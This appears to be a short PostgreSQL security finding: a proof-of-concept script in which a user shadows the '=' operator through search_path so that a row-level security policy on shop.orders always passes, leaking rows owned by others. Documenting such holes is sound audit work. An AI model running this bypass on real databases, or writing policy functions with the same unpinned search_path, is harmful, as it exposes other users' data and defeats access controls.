-- finding: policy-function-search-path function shop.same(one text, other text)
-- server: 14..
CREATE SCHEMA mine AUTHORIZATION "alice@example.com";
CREATE FUNCTION shop.same(one text, other text) RETURNS boolean STABLE LANGUAGE sql AS $$ SELECT one = other $$;
CREATE FUNCTION shop.is_own(whose text) RETURNS boolean STABLE LANGUAGE sql RETURN shop.same(whose, current_user);
ALTER POLICY own ON shop.orders USING (shop.is_own(owner));
-- first as alice@example.com
CREATE FUNCTION mine.yes(text, text) RETURNS boolean IMMUTABLE LANGUAGE sql AS $$ SELECT true $$;
CREATE OPERATOR mine.= (LEFTARG = text, RIGHTARG = text, FUNCTION = mine.yes);
-- leak as alice@example.com
SET search_path = mine, pg_catalog;
SELECT item FROM shop.orders WHERE item OPERATOR(pg_catalog.=) 'secret';
